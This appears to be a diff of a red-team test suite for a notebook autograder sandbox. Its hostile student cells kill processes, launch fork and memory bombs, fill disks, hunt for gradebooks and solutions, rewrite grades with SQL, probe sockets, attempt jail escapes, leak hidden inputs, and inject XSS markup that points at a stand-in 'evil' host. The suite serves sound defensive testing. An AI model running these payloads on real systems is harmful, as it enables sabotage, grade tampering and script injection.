+        """
     import os, signal
     os.kill(-1, signal.SIGKILL)
     os._exit(1)
-    """, RIGHT), points=HONEST, flag="a cell was left out")
-attack("copies_killed", "a later cell kills the copies that wait at earlier checks", beside("""
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+    flag="a cell was left out",
+)
+attack(
+    "copies_killed",
+    "a later cell kills the copies that wait at earlier checks",
+    beside(
+        """
     import os, signal
     for entry in os.listdir("/proc"):
         if entry.isdigit() and int(entry) not in (1, os.getpid(), os.getppid()):
             try: os.kill(int(entry), signal.SIGKILL)
             except OSError: pass
-    """, RIGHT), points={"softmax": 0.0}, reason="the process")
-attack("descriptors_closed", "a cell closes every descriptor", beside("import os; os.closerange(0, 500)", RIGHT),
-       points=HONEST,
-       flag="a cell was left out")
-attack("segmentation_fault", "the function reads address 0", when_whole("import ctypes; ctypes.string_at(0)"),
-       points=ONE_LOST)
-attack("fork_bomb", "as many processes as there may be", beside("""
+    """,
+        RIGHT,
+    ),
+    points={"softmax": 0.0},
+    reason="the process",
+)
+attack(
+    "descriptors_closed",
+    "a cell closes every descriptor",
+    beside("import os; os.closerange(0, 500)", RIGHT),
+    points=HONEST,
+    flag="a cell was left out",
+)
+attack(
+    "segmentation_fault",
+    "the function reads address 0",
+    when_whole("import ctypes; ctypes.string_at(0)"),
+    points=ONE_LOST,
+)
+attack(
+    "fork_bomb",
+    "as many processes as there may be",
+    beside(
+        """
     import os, time
     for _ in range(3000):
         try:
@@ -617,16 +1009,38 @@ attack("fork_bomb", "as many processes as there may be", beside("""
                 time.sleep(20)
                 os._exit(0)
         except OSError: break
-    """, RIGHT, before="softmax"), points={name: (0.0, most) for name, most in FULL.items()})
-attack("memory_bomb_in_cell", "all memory", answer(RIGHT + dedent("""
+    """,
+        RIGHT,
+        before="softmax",
+    ),
+    points={name: (0.0, most) for name, most in FULL.items()},
+)
+attack(
+    "memory_bomb_in_cell",
+    "all memory",
+    answer(
+        RIGHT
+        + dedent("""
     hoard = []
     for _ in range(64): hoard.append(np.ones(32 << 20))
-    """)), points={TARGET: (0.0, 5.0)})
-attack("memory_bomb_in_function", "all memory, in the function", when_whole("""
+    """)
+    ),
+    points={TARGET: (0.0, 5.0)},
+)
+attack(
+    "memory_bomb_in_function",
+    "all memory, in the function",
+    when_whole("""
     hoard = []
     for _ in range(64): hoard.append(np.ones(32 << 20))
-    """), points={TARGET: (0.0, 4.0)})
-attack("disk_filled", "all space in every folder that can be written", beside("""
+    """),
+    points={TARGET: (0.0, 4.0)},
+)
+attack(
+    "disk_filled",
+    "all space in every folder that can be written",
+    beside(
+        """
     import os
     for folder in ("/tmp", "/dev/shm", os.path.expanduser("~"), "/var/tmp", "/"):
         for number in range(40):
@@ -634,8 +1048,16 @@ attack("disk_filled", "all space in every folder that can be written", beside(""
                 with open(f"{folder}/fill{number}", "wb") as file:
                     for _ in range(32): file.write(bytes(1 << 20))
             except OSError: break
-    """, RIGHT), points=HONEST)
-attack("memory_file", "a file in memory beyond the limit of files", beside("""
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+)
+attack(
+    "memory_file",
+    "a file in memory beyond the limit of files",
+    beside(
+        """
     import os
     fd = os.memfd_create("hoard")
     try:
@@ -643,49 +1065,102 @@ attack("memory_file", "a file in memory beyond the limit of files", beside("""
     except OSError as error: print("stopped", error.errno)
     else: print("GR" + "EW")
     os.close(fd)
-    """, RIGHT), points=HONEST, absent=("GREW",))
-attack("print_fifty_megabytes", "50 MB of text, and 50 MB past Python", beside("""
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+    absent=("GREW",),
+)
+attack(
+    "print_fifty_megabytes",
+    "50 MB of text, and 50 MB past Python",
+    beside(
+        """
     import os
     for _ in range(50):
         print("spam" * (1 << 18))
         os.write(1, bytes(1 << 20))
-    """, RIGHT), points=HONEST)
-attack("thousand_pictures", "a thousand pictures of 20 kB", beside("""
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+)
+attack(
+    "thousand_pictures",
+    "a thousand pictures of 20 kB",
+    beside(
+        """
     import base64
     from IPython.display import display
     picture = base64.b64encode(bytes(15_000)).decode()
     for _ in range(1000): display({"image/png": picture, "text/plain": "x"}, raw=True)
-    """, RIGHT), points=HONEST)
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+)
 attack("result_huge", "a result of 200 MB", when_whole("return np.zeros(25 << 20)"), points=ONE_LOST)
-attack("result_deep", "a result ten thousand lists deep", when_whole("""
+attack(
+    "result_deep",
+    "a result ten thousand lists deep",
+    when_whole("""
     deep = []
     for _ in range(10_000): deep = [deep]
     return deep
-    """), points=ONE_LOST)
-attack("exception_that_lies", "an exception without a name, whose words raise", when_whole("""
+    """),
+    points=ONE_LOST,
+)
+attack(
+    "exception_that_lies",
+    "an exception without a name, whose words raise",
+    when_whole("""
     class Meta(type):
         __name__ = property(lambda self: 1 / 0)
     class Trouble(BaseException, metaclass=Meta):
         def __str__(self): raise KeyboardInterrupt
         __repr__ = __str__
     raise Trouble
-    """), points=ONE_LOST, safe_unjailed=True)
-attack("daemon_left_behind", "a process in a session of its own that would outlive the grading", beside("""
+    """),
+    points=ONE_LOST,
+    safe_unjailed=True,
+)
+attack(
+    "daemon_left_behind",
+    "a process in a session of its own that would outlive the grading",
+    beside(
+        """
     import os, subprocess, sys
     subprocess.Popen([sys.executable, "-c", "import time; time.sleep(120)  # left-behind-by-red-team"],
                      start_new_session=True)
-    """, RIGHT), points=HONEST)
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+)
 
 # What is not a student's to see or touch -------------------------------------------------------------------------
 
-attack("files_searched", "gradebook, solutions, seed and other submissions are looked for", beside("""
+attack(
+    "files_searched",
+    "gradebook, solutions, seed and other submissions are looked for",
+    beside(
+        """
     import os
     wanted = {"gradebook.db", "secret_seed", "nbgrader_config.py", "submitted", "autograded", "solutions"}
     for folder, folders, files in os.walk("/"):
         folders[:] = [f for f in folders if f not in ("proc", "sys", "site-packages", "dist-packages", "share")]
         for name in wanted & {*folders, *files}: print("FO" + "UND", folder, name)
-    """, RIGHT), points=HONEST, absent=("FOUND",))
-attack("modules_imported", "the grader's own packages are imported", beside("""
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+    absent=("FOUND",),
+)
+attack(
+    "modules_imported",
+    "the grader's own packages are imported",
+    beside(
+        """
     import importlib
     for name in ("autograder", "autograder.secret", "autograder.hidden", "solutions.softmax", "tests"):
         try: importlib.import_module(name)
@@ -693,8 +1168,17 @@ attack("modules_imported", "the grader's own packages are imported", beside("""
         else: print("IMPO" + "RTED", name)
     try: print("SE" + "ED", importlib.import_module("autograder.secret").seed())
     except ImportError: pass
-    """, RIGHT), points=HONEST, absent=("IMPORTED", "SEED"), safe_unjailed=True)
-attack("gradebook_written", "SQL on the gradebook", beside("""
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+    absent=("IMPORTED", "SEED"),
+    safe_unjailed=True,
+)
+attack(
+    "gradebook_written",
+    "SQL on the gradebook",
+    beside("""
     import glob, sqlite3
     for path in ("COURSE/gradebook.db", "../../../gradebook.db", "gradebook.db"):
         if glob.glob(path):
@@ -702,16 +1186,32 @@ attack("gradebook_written", "SQL on the gradebook", beside("""
             base.execute("UPDATE grade SET manual_score = 5.0")
             base.commit()
             print("WRO" + "TE")
-    """), absent=("WROTE",), safe_unjailed=True)
-attack("environment_read", "the environment of every process", beside("""
+    """),
+    absent=("WROTE",),
+    safe_unjailed=True,
+)
+attack(
+    "environment_read",
+    "the environment of every process",
+    beside(
+        """
     import glob, os
     for path in glob.glob("/proc/[0-9]*/environ") + ["/proc/1/environ", "/proc/self/environ"]:
         try: text = open(path, "rb").read()
         except OSError: continue
         if b"RED_" + b"TEAM_MARK" in text: print("SE" + "EN", path)
     print("SE" + "EN") if "RED_" + "TEAM_MARK" in os.environ else None
-    """, RIGHT), points=HONEST, absent=("SEEN",))
-attack("network_used", "loopback, sockets of the system, and names are asked for", beside("""
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+    absent=("SEEN",),
+)
+attack(
+    "network_used",
+    "loopback, sockets of the system, and names are asked for",
+    beside(
+        """
     import socket
     def attempt(what, do):
         try: do()
@@ -722,8 +1222,17 @@ attack("network_used", "loopback, sockets of the system, and names are asked for
     attempt("name", lambda: socket.getaddrinfo("red-team.invalid", 80))
     for path in ("\\0red-team-PORT", "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/tmp/.X11-unix/X0"):
         attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
-    """, RIGHT), points=HONEST, absent=("CONNECTED",))
-attack("mounts_written", "Python, the libraries and attnlab are written to", beside("""
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+    absent=("CONNECTED",),
+)
+attack(
+    "mounts_written",
+    "Python, the libraries and attnlab are written to",
+    beside(
+        """
     import os, sys, attnlab
     for folder in (os.path.dirname(attnlab.__file__), os.path.dirname(np.__file__), sys.prefix, "/usr", "/"):
         try:
@@ -733,8 +1242,17 @@ attack("mounts_written", "Python, the libraries and attnlab are written to", bes
         try:
             with open(path, "a"): print("WRO" + "TE", path)
         except OSError: pass
-    """, RIGHT), points=HONEST, absent=("WROTE",))
-attack("jail_left", "namespaces, mounts, the root of the first process, rights and limits", beside("""
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+    absent=("WROTE",),
+)
+attack(
+    "jail_left",
+    "namespaces, mounts, the root of the first process, rights and limits",
+    beside(
+        """
     import ctypes, os, resource, subprocess
     libc = ctypes.CDLL(None, use_errno=True)
     if libc.unshare(0x10000000) == 0: print("ESCA" + "PED: a user namespace")
@@ -746,7 +1264,12 @@ attack("jail_left", "namespaces, mounts, the root of the first process, rights a
         try: do()
         except (OSError, ValueError, subprocess.SubprocessError): pass
         else: print("ESCA" + "PED", do.__code__.co_names)
-    """, RIGHT), points=HONEST, absent=("ESCAPED",))
+    """,
+        RIGHT,
+    ),
+    points=HONEST,
+    absent=("ESCAPED",),
+)
 
 # Hidden inputs to be carried out, for feedback to show -----------------------------------------------------------
 
@@ -763,21 +1286,43 @@ SHOW = """
     if os.path.exists("/tmp/stash"): print(open("/tmp/stash").read())
 """
 LEAK = ("LEAKED",)
-attack("leak_by_later_cell", "inputs are kept, and printed by a later cell",
-       beside(SHOW, "kept = []" + STASH, before="check-soft_lookup"), absent=LEAK)
-attack("leak_by_exception_words", "inputs in the words of an exception",
-       answer('def log_softmax(x, axis=-1):\n    raise ValueError("LEAK" + f"ED {np.asarray(x).tolist()}")'),
-       absent=LEAK,
-       safe_unjailed=True)
-attack("leak_by_exception_name", "inputs in the name of an exception", answer("""
+attack(
+    "leak_by_later_cell",
+    "inputs are kept, and printed by a later cell",
+    beside(SHOW, "kept = []" + STASH, before="check-soft_lookup"),
+    absent=LEAK,
+)
+attack(
+    "leak_by_exception_words",
+    "inputs in the words of an exception",
+    answer('def log_softmax(x, axis=-1):\n    raise ValueError("LEAK" + f"ED {np.asarray(x).tolist()}")'),
+    absent=LEAK,
+    safe_unjailed=True,
+)
+attack(
+    "leak_by_exception_name",
+    "inputs in the name of an exception",
+    answer("""
     def log_softmax(x, axis=-1):
         raise type(f"LEAK" + f"ED{np.asarray(x).ravel()[0]!r}", (Exception,), {})
-    """), absent=LEAK, safe_unjailed=True)
-attack("leak_by_result", "inputs as the result, and as names and words in it", answer("""
+    """),
+    absent=LEAK,
+    safe_unjailed=True,
+)
+attack(
+    "leak_by_result",
+    "inputs as the result, and as names and words in it",
+    answer("""
     def log_softmax(x, axis=-1):
         return {"LEAK" + f"ED {np.asarray(x).tolist()}": "LEAK" + "ED", "result": np.asarray(x).tolist()}
-    """), absent=LEAK, safe_unjailed=True)
-attack("leak_by_outcome", "inputs in an outcome's names and reasons", beside("""
+    """),
+    absent=LEAK,
+    safe_unjailed=True,
+)
+attack(
+    "leak_by_outcome",
+    "inputs in an outcome's names and reasons",
+    beside("""
     import gc, sys, types
     module = sys.modules.get("attnlab.notebook_worker")  # so it is in a fork of the warm process
     worker = vars(module) if module else next(
@@ -787,7 +1332,10 @@ attack("leak_by_outcome", "inputs in an outcome's names and reasons", beside("""
         words = "LEAK" + f"ED {inputs}"
         return {"refused": words} if len(words) % 2 else {"value": {words: words, "changed": words, "raises": words}}
     worker["observe"] = forged
-    """), points=LATER_LOST, absent=LEAK)
+    """),
+    points=LATER_LOST,
+    absent=LEAK,
+)
 SECOND = """
 import inspect, os
 class Answer:
@@ -801,21 +1349,37 @@ class Answer:
         with open("/tmp/stash", "w") as file: file.write(repr(float(np.ravel(given[NAMES[0]])[0])))
         os._exit(1)
 """
-attack("leak_by_second_start", "an answer dies, and has other parameters when it is started again",
-       answer(SECOND + "NAMES = ('x', 'axis')\nlog_softmax = Answer()"), absent=LEAK)
+attack(
+    "leak_by_second_start",
+    "an answer dies, and has other parameters when it is started again",
+    answer(SECOND + "NAMES = ('x', 'axis')\nlog_softmax = Answer()"),
+    absent=LEAK,
+)
 
 
 def _every_answer(folder, kit):
     notebook = kit.fresh(SECOND + "NAMES = ('x', 'axis')\nlog_softmax = Answer()")
-    for name, parameters in {"softmax": ("x", "axis"), "softmax_temperature": ("x", "temperature"),
-                             "softmax_jacobian": ("x",), "soft_lookup": ("query", "keys", "values")}.items():
+    for name, parameters in {
+        "softmax": ("x", "axis"),
+        "softmax_temperature": ("x", "temperature"),
+        "softmax_jacobian": ("x",),
+        "soft_lookup": ("query", "keys", "values"),
+    }.items():
         named(notebook, name)["source"] = SECOND + f"NAMES = {parameters!r}\n{name} = Answer()"
     return notebook
 
 
-attack("leak_by_another_answer", "an answer has the inputs of another for parameters", _every_answer, points=ALL_LOST,
-       absent=LEAK)
-attack("leak_by_forged_start", "an answer that is started again says itself why it cannot be", answer("""
+attack(
+    "leak_by_another_answer",
+    "an answer has the inputs of another for parameters",
+    _every_answer,
+    points=ALL_LOST,
+    absent=LEAK,
+)
+attack(
+    "leak_by_forged_start",
+    "an answer that is started again says itself why it cannot be",
+    answer("""
     import os, importlib
     codec, frames = (importlib.import_module(f"attnlab.{name}") for name in ("codec", "frames"))
     genuine = frames.write
@@ -828,7 +1392,10 @@ attack("leak_by_forged_start", "an answer that is started again says itself why 
     def log_softmax(x, axis=-1):
         with open("/tmp/stash", "w") as file: file.write(repr(float(np.ravel(x)[0])))
         os._exit(1)
-    """), points=UNSURE, absent=LEAK)
+    """),
+    points=UNSURE,
+    absent=LEAK,
+)
 
 # Pages that would run something ----------------------------------------------------------------------------------
 
@@ -837,8 +1404,16 @@ EVIL = """<script>evil()</script><img src=x onerror=evil()><a href="javascript:e
 <form action="//evil"><input name=a></form><base href="//evil">
 [link](javascript:evil()) ![picture](http://evil/x.png) $\\href{javascript:evil()}{x}$ <details open ontoggle=evil()>
 """
-PAGE = ("<script>evil", "<img src=x onerror", '<a href="javascript:evil', "<iframe src", "<svg onload", "<base href",
-        "<details open ontoggle", 'src="http://evil')
+PAGE = (
+    "<script>evil",
+    "<img src=x onerror",
+    '<a href="javascript:evil',
+    "<iframe src",
+    "<svg onload",
+    "<base href",
+    "<details open ontoggle",
+    'src="http://evil',
+)
 
 
 def _written(notebook):
@@ -846,22 +1421,58 @@ def _written(notebook):
     notebook["cells"].append({"cell_type": "markdown", "metadata": {}, "source": EVIL, "id": "more"})
 
 
-attack("page_written_answer", "markup, script and links in a written answer", metadata(_written), not_in_page=PAGE,
-       safe_unjailed=True)
-attack("page_displayed", "markup and script as outputs", answer(WRONG + f"""
+attack(
+    "page_written_answer",
+    "markup, script and links in a written answer",
+    metadata(_written),
+    not_in_page=PAGE,
+    safe_unjailed=True,
+)
+attack(
+    "page_displayed",
+    "markup and script as outputs",
+    answer(
+        WRONG
+        + f"""
 from IPython.display import display, HTML, Javascript, Markdown, SVG
 evil = {EVIL!r}
 display(HTML(evil), Markdown(evil), Javascript("evil()"))
 display({{"image/svg+xml": evil, "text/latex": evil, "application/javascript": "evil()", "text/html": evil}}, raw=True)
 display({{"image/png": '"><script>evil()</script>', "text/plain": evil}}, raw=True)
 print(evil)
-"""), not_in_page=PAGE, safe_unjailed=True)
-attack("page_terminal_codes", "terminal codes around markup", answer(WRONG + f"""
+"""
+    ),
+    not_in_page=PAGE,
+    safe_unjailed=True,
+)
+attack(
+    "page_terminal_codes",
+    "terminal codes around markup",
+    answer(
+        WRONG
+        + """
 print("\\x1b[31m<script>evil()</script>\\x1b]8;;javascript:evil()\\x07x\\x1b]8;;\\x07\\x1b[999999999999m\\x00\\ud800")
-"""), not_in_page=PAGE, safe_unjailed=True)
-attack("page_exception", "markup in an exception of the cell", answer(WRONG + f"""
+"""
+    ),
+    not_in_page=PAGE,
+    safe_unjailed=True,
+)
+attack(
+    "page_exception",
+    "markup in an exception of the cell",
+    answer(
+        WRONG
+        + f"""
 raise type("E<script>evil()</script>", (Exception,), {{}})({EVIL!r})
-"""), not_in_page=PAGE, safe_unjailed=True)
-attack("page_source", "markup in the answer's own source", answer(f"# </pre>{EVIL.splitlines()[0]}\n" + WRONG),
-       not_in_page=PAGE,
-       safe_unjailed=True)
+"""
+    ),
+    not_in_page=PAGE,
+    safe_unjailed=True,
+)
+attack(
+    "page_source",
+    "markup in the answer's own source",
+    answer(f"# </pre>{EVIL.splitlines()[0]}\n" + WRONG),
+    not_in_page=PAGE,
+    safe_unjailed=True,
+)
